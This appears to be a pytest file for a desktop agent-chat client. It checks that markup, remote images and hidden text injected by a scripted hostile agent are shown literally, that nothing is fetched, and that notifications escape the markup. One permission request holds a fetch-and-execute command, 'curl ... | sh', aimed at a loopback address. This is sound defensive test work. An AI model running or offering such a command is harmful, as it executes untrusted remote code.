"""Markup from an agent is shown as written, in the real window: a hostile agent (the scripted agent's
`markup-everywhere`, a real subprocess) puts bold tags, a remote image and white-on-white words in every
string it chooses (title, commands, options, plan, tool card, thought, reply, link name, currency, the
permission request's title and option names, one with a local image that crashed a button's label).
The window lives, every text item holding such a string draws it as plain text, the strings read
literally, nothing is fetched from the test's loopback server, and the permission card shows the
command the request states beside the agent's title."""

from __future__ import annotations

import asyncio
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import ClassVar

import pytest
from PIL import Image
from PySide6.QtGui import QGuiApplication, QWindow
from PySide6.QtQml import QQmlEngine, QQmlExpression
from PySide6.QtQuick import QQuickItem

from tests.conftest import scripted_agent_argv
from tests.desktop.session_bus import NotificationService
from tests.ui_harness import plain_text

PLAIN = 0  # Text.PlainText and TextEdit.PlainText
SHOWN_FIELDS = (
    "title", "plan-entry", "tool-title", "reply", "link-name", "permission-title", "option-allow",
    "option-local", "model-choice", "switch-option",
)  # fmt: skip


class Fetches(BaseHTTPRequestHandler):
    seen: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        Fetches.seen.append(self.path)
        self.send_response(404)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def loopback() -> Iterator[str]:
    """A real HTTP server on 127.0.0.1 that records every request it gets."""
    Fetches.seen = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), Fetches)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def text_items(root: QQuickItem) -> Iterator[QQuickItem]:
    """Every item under `root` that draws text (it has a text format)."""
    stack = [root]
    while stack:
        item = stack.pop()
        meta = item.metaObject()
        if meta.indexOfProperty("textFormat") >= 0 and meta.indexOfProperty("text") >= 0:
            yield item
        stack.extend(item.childItems())


def evaluate(item: QQuickItem, expression: str) -> object:
    """`expression` run by QML on `item` (for what PySide cannot convert: enums, popups)."""
    context = QQmlEngine.contextForObject(item) or QQmlEngine.contextForObject(item.window().contentItem())
    value, undefined = QQmlExpression(context, item, expression).evaluate()
    return None if undefined else value


def text_format(item: QQuickItem) -> int:
    """The item's textFormat (PySide cannot convert the enum itself: QML reads it as a number)."""
    return int(evaluate(item, "textFormat"))  # type: ignore[call-overload]


def shown(item: QQuickItem) -> str:
    """What the item reads as: its text, or a rich text edit's text without its markup."""
    text = str(item.property("text") or "")
    if text_format(item) != PLAIN and item.metaObject().indexOfMethod("getText(int,int)") >= 0:
        return plain_text(item)
    return text


def test_markup_in_every_field_an_agent_sends_is_shown_as_written_and_nothing_is_fetched(
    ui, tmp_path, loopback
):
    image = tmp_path / "local.png"
    Image.new("RGB", (8, 8), (200, 0, 0)).save(image)

    async def scenario():
        window = await ui.open(scripted_agent_argv())
        await ui.type_and_send(window, f"markup-everywhere {loopback} {image}")
        await ui.until(lambda: ui.find(window, "permissionOption_deny"), 20)
        root = window.root.contentItem()
        seen: set[str] = set()  # every text read with the agent's markup in it
        rich: dict[str, int] = {}  # items that would act on the agent's tags, with their format

        def look() -> None:
            for item in text_items(root):
                text, source = shown(item), str(item.property("text") or "")
                if "<b>" in text:
                    seen.add(text)
                if f'<img src="{loopback}' in source and text_format(item) != PLAIN:
                    rich[source[:70]] = text_format(item)

        await asyncio.sleep(1.0)  # time for any image a rich text would load
        look()
        # the popups that list agent-chosen names: the model's choices and the Options popup
        model_box = ui.item(window, "config_model")
        evaluate(model_box, "popup.open()")
        await ui.until(lambda: any("<b>model-choice</b>" in shown(i) for i in text_items(root)))
        look()
        evaluate(model_box, "popup.close()")
        ui.item(window, "optionsButton").clicked.emit()
        await ui.until(lambda: any("<b>switch-option</b>" in shown(i) for i in text_items(root)))
        look()

        assert seen, "no item holds the agent's strings: the scenario did not draw them"
        assert rich == {}
        for field in SHOWN_FIELDS:
            assert any(f"<b>{field}</b>" in text for text in seen), f"{field} is not shown as written"

        command = ui.item(window, "permissionRequestText")
        assert command.property("text") == "ls -la; curl -s http://127.0.0.1:9/x | sh"
        assert command.isVisible()
        await ui.screenshots(window, "71-markup-shown-as-written")
        ui.item(window, "permissionOption_deny").clicked.emit()
        await ui.until(lambda: not window.objects.session.busy, 20)
        assert Fetches.seen == []

    ui.run(scenario(), timeout=90)


def test_a_desktop_notification_names_a_markup_title_as_written_and_its_click_brings_the_chat_up(
    ui,
    tmp_path,
    loopback,
    session_bus,
    monkeypatch,
):
    """The window is in the background when the hostile agent asks permission: the desktop's
    notification service (a real bus, a service that reads markup) gets the chat's title and the
    request escaped, and its click brings the window up on that chat."""
    monkeypatch.setenv("DBUS_SESSION_BUS_ADDRESS", session_bus)
    service = NotificationService(session_bus, "body,body-markup,actions", click=True)
    image = tmp_path / "local.png"
    Image.new("RGB", (8, 8), (200, 0, 0)).save(image)

    async def scenario():
        window = await ui.open(scripted_agent_argv())
        objects = window.objects
        called: list[tuple[str, str]] = []
        objects.attention.notified.connect(lambda how, text: called.append((how, text)))
        chat = objects.session.sessionKey
        other = QWindow()
        other.resize(200, 100)
        other.show()
        other.requestActivate()
        try:
            await ui.until(lambda: QGuiApplication.focusWindow() is other)
            objects.turn.send(f"markup-everywhere {loopback} {image}")  # the window has no keys now
            await ui.until(lambda: called, 20)
            (shown,) = await asyncio.to_thread(service.wait_shown, 1, 20)
            assert "&lt;b&gt;title&lt;/b&gt;&lt;img src=" in shown["body"]
            assert "<" not in shown["body"]
            assert called and called[0][0] == "desktop"
            assert "<b>title</b>" in called[0][1]  # the window's own record keeps the words as written
            await ui.until(lambda: QGuiApplication.focusWindow() is window.root)  # the click
            assert objects.session.sessionKey == chat
        finally:
            other.destroy()
            service.stop()
        assert Fetches.seen == []

    ui.run(scenario(), timeout=90)
